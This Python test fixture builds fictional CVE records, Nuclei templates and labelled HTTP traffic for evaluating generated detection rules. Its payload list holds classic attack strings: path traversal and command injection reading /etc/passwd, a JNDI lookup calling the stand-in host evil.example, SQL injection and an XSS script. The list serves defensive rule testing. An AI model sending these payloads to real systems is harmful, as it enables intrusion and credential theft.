"""Deterministic fixture world for the feedback-loop and threshold experiments.

Builds N fictional CVEs (each with a distinct endpoint and a payload from a
small marker library), a labeled evaluation corpus with cross-endpoint bait
that punishes endpoint-free rules, and a traffic corpus plus IP reputation
map sized so correct rules pass IP validation and over-broad ones fail.
"""

from __future__ import annotations

from datetime import datetime, timezone

from rulesmith.events import HttpEvent, make_event
from rulesmith.nuclei import CveRecord, NucleiTemplate

FIXED_NOW = datetime(2025, 6, 1, tzinfo=timezone.utc)

# (marker-class name, payload, query parameter)
PAYLOAD_CLASSES = [
    ("traversal", "../../../../etc/passwd", "file"),
    ("jndi", "${jndi:ldap://evil.example/a}", "q"),
    ("sqli-quote", "' or '1'='1", "id"),
    ("cmdinj", "127.0.0.1;cat /etc/passwd", "host"),
    ("union", "1 union select password from users", "item"),
    ("xss", "<script>alert(1)</script>", "term"),
]

VULN_PHRASES = [
    "Path traversal",
    "Remote code execution",
    "SQL injection",
    "Command injection",
    "SQL injection",
    "Cross-site scripting",
]

EXPLOIT_IPS_PER_CVE = 14
BAIT_IPS_PER_CLASS = 60

# benign-looking queries that legitimately contain each class's marker
BAIT_QUERIES = {
    "traversal": "path=lib/../../README.md",
    "jndi": "notes=how to disable ${jndi:ldap lookups",
    "sqli-quote": "quote=' or '1'='1 is the classic tautology",
    "cmdinj": "snippet=ping 10.0.0.1;cat /etc/passwd explained",
    "union": "sqldoc=SELECT 1 union select password from users",
    "xss": "sample=<script>alert(1)</script> encoded demo",
}


def class_of(index: int) -> str:
    return PAYLOAD_CLASSES[index % len(PAYLOAD_CLASSES)][0]


def make_world_records(count: int = 50) -> list[CveRecord]:
    records = []
    for i in range(count):
        class_name, payload, param = PAYLOAD_CLASSES[i % len(PAYLOAD_CLASSES)]
        phrase = VULN_PHRASES[i % len(VULN_PHRASES)]
        endpoint = f"/svc{i:02d}/api/handle"
        cve_id = f"CVE-2025-{10000 + i}"
        raw = f"GET http://target.example{endpoint}?{param}={payload} HTTP/1.1\nHost: target.example\n"
        template = NucleiTemplate(
            template_id=cve_id,
            name=f"Fixture service {i:02d} - {class_name}",
            description=(
                f"{phrase} in fixture service {i:02d} via the {param} parameter "
                f"of the {endpoint} endpoint."
            ),
            severity="high",
            raw_requests=(raw,),
            cve_id=cve_id,
        )
        records.append(CveRecord(cve_id=cve_id, template=template, ingested_at=FIXED_NOW))
    return records


def _exploit_query(index: int) -> tuple[str, str]:
    _, payload, param = PAYLOAD_CLASSES[index % len(PAYLOAD_CLASSES)]
    return param, payload


def make_eval_corpus(records: list[CveRecord]) -> list[tuple[HttpEvent, str]]:
    """(event, label) pairs; labels are 'malicious' or 'benign'."""
    labeled: list[tuple[HttpEvent, str]] = []
    for i, record in enumerate(records):
        endpoint = f"/svc{i:02d}/api/handle"
        param, payload = _exploit_query(i)
        for k in range(3):
            labeled.append(
                (
                    make_event("GET", endpoint, f"{param}={payload}", source_ip=f"198.51.100.{i}"),
                    "malicious",
                )
            )
        for value in ("report.pdf", "summary.txt"):
            labeled.append((make_event("GET", endpoint, f"{param}={value}"), "benign"))
    # cross-endpoint bait: marker-bearing but legitimate traffic
    for class_name, _, _ in PAYLOAD_CLASSES:
        for k in range(2):
            labeled.append(
                (make_event("GET", f"/docs/render{k}", BAIT_QUERIES[class_name]), "benign")
            )
    return labeled


def make_traffic_world(records: list[CveRecord]) -> tuple[list[HttpEvent], dict[str, str]]:
    """Traffic corpus + reputation sized for the IP-validation window.

    Each CVE's exploit arrives from EXPLOIT_IPS_PER_CVE malicious IPs;
    each payload class also has BAIT_IPS_PER_CLASS benign IPs sending
    marker-bearing legitimate requests, so endpoint-anchored rules see a pure
    malicious population while endpoint-free rules fall under the 70% bar.
    """
    corpus: list[HttpEvent] = []
    reputation: dict[str, str] = {}
    for i, record in enumerate(records):
        endpoint = f"/svc{i:02d}/api/handle"
        param, payload = _exploit_query(i)
        for k in range(EXPLOIT_IPS_PER_CVE):
            ip = f"10.{i}.0.{k + 1}"
            reputation[ip] = "malicious"
            corpus.append(make_event("GET", endpoint, f"{param}={payload}", source_ip=ip))
    for class_index, (class_name, _, _) in enumerate(PAYLOAD_CLASSES):
        for k in range(BAIT_IPS_PER_CLASS):
            ip = f"172.16.{class_index}.{k + 1}"
            reputation[ip] = "benign"
            corpus.append(make_event("GET", "/docs/render0", BAIT_QUERIES[class_name], source_ip=ip))
    return corpus, reputation
